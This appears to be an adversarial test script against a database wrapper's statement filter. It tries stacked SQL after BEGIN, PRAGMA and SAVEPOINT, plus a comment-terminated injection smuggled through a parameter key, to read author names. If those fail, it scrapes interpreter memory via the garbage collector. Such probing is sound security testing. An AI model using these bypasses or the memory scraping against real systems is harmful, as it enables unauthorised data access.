# attack: reads in statements that begin like those that are free, and in those that an open transaction might let through
import gc

from overlap._database.base import send

TRIES = (
    ["BEGIN; SELECT name FROM shop_author"], ["PRAGMA foreign_keys; SELECT name FROM shop_author"],
    ["PRAGMA foreign_key_check"], ["PRAGMA\nforeign_keys\n= (SELECT name FROM shop_author)"],
    ["BEGIN%(a)s", {"; SELECT name FROM shop_author --": 1}], ["SAVEPOINT \"a\"; SELECT name FROM shop_author"],
    [["SELECT name FROM shop_author"], {}],
)


async def names():
    found = []
    for sql, *params in TRIES:
        try:
            rows = send(sql, *params)[1]
        except Exception:
            continue
        found += [row[0] for row in rows if isinstance(row[0], str)]
    if not found:  # whatever was loaded through this interpreter would be here
        found = [d["name"] for d in gc.get_objects() if type(d) is dict and len(str(d.get("name", ""))) == 12]
    return found[:5]
